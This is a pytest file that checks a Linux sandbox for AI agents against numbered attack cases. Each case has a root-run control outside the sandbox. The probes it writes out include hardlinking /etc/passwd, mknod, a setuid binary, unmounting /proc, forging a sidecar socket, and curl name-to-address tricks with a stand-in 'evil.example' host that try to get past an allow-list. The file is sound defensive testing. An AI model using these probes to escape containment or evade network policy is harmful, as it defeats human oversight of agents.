"""attack cases (docs/ATTACKS_COVERAGE.md) on the sandbox's own files and privileges, and on relay failures, run for
real through the CLI, each next to a positive control run outside the sandbox (as root):
#37 a hardlink to /etc/passwd and mknod fail inside while a FIFO works; #43 a setuid-root binary
does not elevate; #45 /proc cannot be unmounted; #56 an allowed destination with nothing
listening gives exactly one `upstream_unreachable` event per attempt, with this sandbox's id;
#41 near-limit arguments arrive intact; #3 name/address pairing tricks; #21/#34 the sidecar's
socket is out of the sandbox's and other users' reach."""

from __future__ import annotations

import ast
import json
import os
import secrets
import shutil
import signal
import socket
import subprocess
import tempfile
from pathlib import Path

import pytest

from linux_support import SYSTEM_PYTHON, Upstream, base_env, firma_cmd, require_tools, run_firma, wait_for

pytestmark = pytest.mark.confinement


@pytest.fixture(autouse=True)
def _tools():
    require_tools()


@pytest.fixture
def etc_fs_ws():
    """A world-readable workspace on the filesystem that holds /etc, so that outside the sandbox a
    hardlink to /etc/passwd works (the control) and inside only the sandbox can stop it."""
    if os.geteuid() != 0:
        pytest.fail("these positive controls (hardlink to /etc/passwd, mknod, setuid, umount) need root")
    etc_dev = os.stat("/etc").st_dev
    for parent in ("/var/lib", "/var/tmp", "/root", "/"):
        if os.path.isdir(parent) and os.stat(parent).st_dev == etc_dev:
            break
    else:
        pytest.fail("no directory on the filesystem of /etc to hold the workspace (needed for the hardlink control)")
    d = Path(tempfile.mkdtemp(prefix="firma-test-local-", dir=parent))
    d.chmod(0o755)
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


FS_PROBE = (
    "ln /etc/passwd hl 2>/dev/null && echo hardlink=ok || echo hardlink=fail; "
    "mknod nod c 1 3 2>/dev/null && echo mknod=ok || echo mknod=fail; "
    "mkfifo fifo 2>/dev/null && echo fifo=ok || echo fifo=fail; "
    "rm -f hl nod fifo"
)


def _results(out: str) -> dict[str, str]:
    return dict(line.split("=", 1) for line in out.split() if "=" in line)


def test_hardlink_to_etc_and_mknod_fail_inside_a_fifo_works(etc_fs_ws, tmp_path):
    """ATTACKS #37."""
    ctl = subprocess.run(["sh", "-c", FS_PROBE], cwd=etc_fs_ws, capture_output=True, text=True)
    assert _results(ctl.stdout) == {"hardlink": "ok", "mknod": "ok", "fifo": "ok"}, ctl.stdout + ctl.stderr
    p = run_firma(["run", "--", "sh", "-c", FS_PROBE], cwd=etc_fs_ws, env=base_env(tmp_path))
    assert p.returncode == 0, p.stderr
    assert _results(p.stdout) == {"hardlink": "fail", "mknod": "fail", "fifo": "ok"}, p.stdout
    assert sorted(x.name for x in etc_fs_ws.iterdir()) == []  # nothing left behind either way


def test_setuid_root_binary_does_not_elevate(etc_fs_ws, tmp_path):
    """ATTACKS #43 (NoNewPrivs and CapEff are read from outside for every run; see the proof
    tests). Control: outside, the same setuid-root copy of `id` run as nobody has euid 0."""
    suid = etc_fs_ws / "suid-id"
    shutil.copy2(shutil.which("id"), suid)
    os.chown(suid, 0, 0)
    suid.chmod(0o4755)
    ctl = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", str(suid), "-u"],
                         capture_output=True, text=True)
    assert ctl.returncode == 0 and ctl.stdout.strip() == "0", ctl.stdout + ctl.stderr  # control: it elevates
    p = run_firma(["run", "--", "sh", "-c", "./suid-id -u; ./suid-id -ru"], cwd=etc_fs_ws, env=base_env(tmp_path))
    assert p.returncode == 0, p.stderr
    euid, ruid = p.stdout.split()
    assert euid == ruid and euid != "0"


def test_proc_cannot_be_unmounted(etc_fs_ws, tmp_path):
    """ATTACKS #45 (new network namespaces and `unshare` are refused in test_linux_attacks).
    Control: root outside, in a mount namespace of its own, can unmount /proc there."""
    probe = "umount -l /proc 2>/dev/null && echo umount=ok || echo umount=fail; test -r /proc/self/status && echo proc=there"
    ctl = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", probe], capture_output=True, text=True)
    assert _results(ctl.stdout).get("umount") == "ok", ctl.stdout + ctl.stderr
    p = run_firma(["run", "--", "sh", "-c", probe], cwd=etc_fs_ws, env=base_env(tmp_path))
    assert p.returncode == 0, p.stderr
    assert _results(p.stdout) == {"umount": "fail", "proc": "there"}, p.stdout


def _sandbox_ids(state: Path) -> set[str]:
    return {json.loads(f.read_text())["sandbox_id"] for f in (state / "proofs").glob("sbx_*.json")}


def test_relay_failure_to_an_allowed_destination_is_one_event_per_attempt(etc_fs_ws, tmp_path):
    """ATTACKS #56. Control: while the upstream listens, the same allowed request gets 200 and one
    allow event. Then, with nothing listening on that port, a plain request (502) and a CONNECT
    tunnel (curl -p) each produce exactly one `upstream_unreachable` event of this sandbox."""
    state = tmp_path / "state"
    up = Upstream()
    port = up.port
    allow = ["run", "--allow-host", f"127.0.0.1:{port}", "--"]
    try:
        ctl = run_firma(allow + ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", f"http://127.0.0.1:{port}/ctl"],
                        cwd=etc_fs_ws, env=base_env(tmp_path))
        assert ctl.stdout == "200" and [h for h in up.hits if b"/ctl" in h], ctl.stdout + ctl.stderr
    finally:
        up.close()
    first = _sandbox_ids(state)
    tag = secrets.token_hex(3)
    script = (
        f"curl -s -o /dev/null -w 'plain=%{{http_code}} ' http://127.0.0.1:{port}/{tag}; "
        f"curl -s -p -o /dev/null -w 'tunnel=%{{http_connect}}' http://127.0.0.1:{port}/{tag}"
    )
    p = run_firma(allow + ["sh", "-c", script], cwd=etc_fs_ws, env=base_env(tmp_path))
    assert _results(p.stdout) == {"plain": "502", "tunnel": "200"}, p.stdout + p.stderr  # tunnel: CONNECT answered, then the dial fails
    (second,) = _sandbox_ids(state) - first
    with open(state / "audit.jsonl") as f:
        events = [json.loads(line) for line in f]
    ctl_events = [e for e in events if e["sandbox_id"] in first]
    assert [(e["resource"], e["deny_reason"]) for e in ctl_events] == [(f"GET http://127.0.0.1:{port}/ctl", "")]
    mine = [(e["action"], e["resource"], e["deny_reason"]) for e in events if e["sandbox_id"] == second]
    assert mine == [
        ("http.request", f"GET http://127.0.0.1:{port}/{tag}", "upstream_unreachable"),
        ("network.connect", f"127.0.0.1:{port}", "upstream_unreachable"),
    ]


HASH_ARGS = "import hashlib, os, sys; print(len(sys.argv) - 1, hashlib.sha256(b'\\0'.join(map(os.fsencode, sys.argv[1:]))).hexdigest(), len(os.environ.get('ANTHROPIC_API_KEY', '')))"


def test_near_limit_arguments_and_environment_reach_the_agent_intact(etc_fs_ws, tmp_path):
    """ATTACKS #41, over-long argv: arguments totalling ~1.8 MB (18 of 100 KiB, under the kernel's
    128 KiB per string) and a 100 KiB API key reach the agent whole, not truncated and without
    E2BIG (bwrap's options travel in a memfd; the agent's environment is built from empty).
    Control: the same interpreter outside sees the same arguments."""
    args = [f"{i:02d}" + secrets.token_hex(50 * 1024)[: 100 * 1024 - 2] for i in range(18)]
    key = "k" * (100 * 1024)
    py = SYSTEM_PYTHON  # not a shim under /root, which the sandbox hides from a root caller
    ctl = subprocess.run([py, "-S", "-c", HASH_ARGS, *args], capture_output=True, text=True, env={"ANTHROPIC_API_KEY": key})
    n, digest, keylen = ctl.stdout.split()
    assert (n, keylen) == ("18", str(len(key))), ctl.stderr
    p = run_firma(["run", "--profile", "claude", "--", py, "-S", "-c", HASH_ARGS, *args], cwd=etc_fs_ws,
                  env=base_env(tmp_path, ANTHROPIC_API_KEY=key))
    assert p.returncode == 0, p.stderr[-500:]
    assert p.stdout.split() == [n, digest, keylen]


def test_name_to_address_pairing_tricks_do_not_reach_an_allowed_address(etc_fs_ws, tmp_path):
    """ATTACKS #3: curl's --resolve / --connect-to pair a denied name with an allowed address
    (`localhost:P` is allowed). Through the proxy the sidecar decides on the name (403); a tunnel
    to the allowed name carrying a plain request for the other name is refused (tls_required);
    with the proxy bypassed the connection lands on the transparent listener and is decided as
    the address it dialled (an IP literal no rule allows: refused). Controls: outside, the same --resolve request
    reaches the upstream; inside, the allowed name itself works."""
    up = Upstream()
    try:
        port = up.port
        tag = secrets.token_hex(3)
        ctl = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--noproxy", "*",
                              "--resolve", f"evil.example:{port}:127.0.0.1", f"http://evil.example:{port}/c-{tag}"],
                             capture_output=True, text=True)
        assert ctl.stdout == "200" and [h for h in up.hits if f"/c-{tag}".encode() in h]  # control
        up.reset()
        w = "-s -o /dev/null -w '%{http_code} '"
        script = "; ".join([
            f"curl {w} http://localhost:{port}/ok-{tag}",
            f"curl {w} --resolve evil.example:{port}:127.0.0.1 http://evil.example:{port}/r1-{tag}",
            f"curl {w} --connect-to ::localhost:{port} http://evil.example/r2-{tag}",
            f"curl {w} --noproxy '*' --resolve evil.example:{port}:127.0.0.1 http://evil.example:{port}/r3-{tag}",
            f"curl -s -o /dev/null -w '%{{http_connect}} ' -p --resolve evil.example:{port}:127.0.0.1 http://evil.example:{port}/r4-{tag}",
        ])
        p = run_firma(["run", "--allow-host", f"localhost:{port}", "--", "sh", "-c", script],
                      cwd=etc_fs_ws, env=base_env(tmp_path))
        assert p.stdout.split() == ["200", "403", "000", "000", "403"], p.stdout + p.stderr
        assert [h for h in up.hits if f"/ok-{tag}".encode() in h]  # the allowed name works
        assert [h for h in up.hits if tag.encode() in h and b"/ok-" not in h] == []  # nothing else arrived
        with open(tmp_path / "state" / "audit.jsonl") as f:
            denied = [(e["resource"], e["deny_reason"]) for e in map(json.loads, f) if e["decision"] != 1]
        assert denied == [
            (f"GET http://evil.example:{port}/r1-{tag}", "host_not_allowed"),
            (f"localhost:{port}", "tls_required"),
            (f"127.0.0.1:{port}", "host_not_allowed"),
            (f"evil.example:{port}", "host_not_allowed"),
        ]
    finally:
        up.close()


def test_the_sidecar_socket_answers_only_the_launchers_user_and_not_the_sandbox(tmp_path):
    """ATTACKS #21/#34: the embedded sidecar's unix socket lives in a 0700 run dir under the state
    root. Inside the sandbox the state root is an empty tmpfs: the socket is not there, and a
    `sidecar.sock` forged there never reaches the host. Outside, another user cannot connect.
    Control: the launcher's own user (root) connects and gets the health answer."""
    from unprivileged_support import ensure_user

    user = ensure_user()
    state = Path(tempfile.mkdtemp(prefix="firma-test-state-", dir="/var/lib"))  # not under /tmp
    ws = tmp_path / "ws"
    ws.mkdir()
    n = 5000 + secrets.randbelow(4000)
    agent = (
        f"ls -A {state}/run > {ws}/inside-listing 2>&1; "
        f"mkdir -p {state}/run/forged && : > {state}/run/forged/sidecar.sock && echo forged > {ws}/forged; "
        f"touch {ws}/started; sleep {n}.5"
    )
    p = subprocess.Popen(firma_cmd("run", "--", "sh", "-c", agent), cwd=ws,
                         env=base_env(tmp_path, FIRMA_STATE_DIR=str(state)),
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        wait_for(ws / "started", p)
        (sock,) = state.glob("run/sbx_*/sidecar.sock")
        health = "GET /__firma/health HTTP/1.1\r\nhost: firma\r\n\r\n"
        with socket.socket(socket.AF_UNIX) as c:  # control: the launcher's user
            c.settimeout(10)
            c.connect(str(sock))
            c.sendall(health.encode())
            assert c.recv(64).startswith(b"HTTP/1.1 200")
        probe = ("import socket, sys\n"
                 "s = socket.socket(socket.AF_UNIX)\n"
                 "try:\n    s.connect(sys.argv[1]); print('connected')\n"
                 "except OSError as e:\n    print(type(e).__name__)\n")
        other = subprocess.run(["setpriv", f"--reuid={user.pw_uid}", f"--regid={user.pw_gid}", "--clear-groups",
                                SYSTEM_PYTHON, "-S", "-c", probe, str(sock)], capture_output=True, text=True)
        assert other.stdout.strip() == "PermissionError", other.stdout + other.stderr
        assert "No such file or directory" in (ws / "inside-listing").read_text()  # inside: an empty state root
        assert (ws / "forged").exists()  # the forging ran (on the sandbox's tmpfs)...
        assert not (state / "run" / "forged").exists()  # ...and never reached the host
        p.send_signal(signal.SIGTERM)
        assert p.wait(30) == 128 + signal.SIGTERM
    finally:
        if p.poll() is None:
            p.kill()
        shutil.rmtree(state, ignore_errors=True)


def test_name_service_files_inside_are_ours_and_read_only(etc_fs_ws, tmp_path):
    """ATTACKS #28: inside, /etc/resolv.conf and /etc/hosts are firma's generated files and
    /etc/nsswitch.conf is the host's, all read-only; writing any of them fails. Control: root
    outside can open the same files for writing (nothing is written)."""
    from firma.core.bwrap_plan import HOSTS, RESOLV_CONF

    files = ("/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf")
    probe = (
        "import errno, sys\n"
        "for f in sys.argv[1:]:\n"
        "    try:\n"
        "        open(f, 'a').close(); w = 'writable'\n"
        "    except OSError as e:\n"
        "        w = errno.errorcode[e.errno]\n"
        "    print(f, w, repr(open(f).read()))\n"
        "ro = {l.split()[4] for l in open('/proc/self/mountinfo') if 'ro' in l.split()[5].split(',')}\n"
        "print('read-only-mounts', '-', repr(sorted(set(sys.argv[1:]) & ro)))\n"
    )
    ctl = subprocess.run([SYSTEM_PYTHON, "-S", "-c", probe, *files], capture_output=True, text=True)
    assert [line.split(" ", 2)[1] for line in ctl.stdout.splitlines()[:3]] == ["writable"] * 3, ctl.stdout + ctl.stderr
    p = run_firma(["run", "--", SYSTEM_PYTHON, "-S", "-c", probe, *files], cwd=etc_fs_ws, env=base_env(tmp_path))
    assert p.returncode == 0, p.stderr
    seen = {f: (w, ast.literal_eval(text)) for f, w, text in (line.split(" ", 2) for line in p.stdout.splitlines())}
    # firma's files are read-only mount points (nsswitch.conf is under the read-only root)
    assert seen.pop("read-only-mounts")[1] == ["/etc/hosts", "/etc/resolv.conf"]
    # A root caller's agent has an unprivileged host uid: the root-owned files refuse it first.
    refused = "EACCES" if os.geteuid() == 0 else "EROFS"
    assert {f: w for f, (w, _) in seen.items()} == dict.fromkeys(files, refused), seen
    assert seen["/etc/resolv.conf"][1] == RESOLV_CONF and seen["/etc/hosts"][1] == HOSTS
    with open("/etc/nsswitch.conf") as f:
        assert seen["/etc/nsswitch.conf"][1] == f.read()  # the host's, read-only
